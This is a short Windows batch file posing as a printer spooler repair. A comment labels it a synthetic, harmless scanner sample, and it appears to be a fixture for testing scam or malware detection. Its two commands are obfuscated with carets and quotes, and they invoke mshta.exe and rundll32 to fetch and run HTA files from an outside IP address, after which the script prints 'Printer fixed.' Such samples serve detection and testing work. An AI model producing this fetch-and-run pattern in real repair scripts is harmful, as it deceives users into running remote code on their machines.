@echo off
rem Printer spooler repair. scamscan synthetic sample - harmless text, not malware
m^s^h^t^a.exe ht^tps://203.0.113.62/fix/spooler.hta
r"un"dl"l"32.exe url.dll,OpenURL http://203.0.113.62/fix/update.hta
echo Printer fixed.
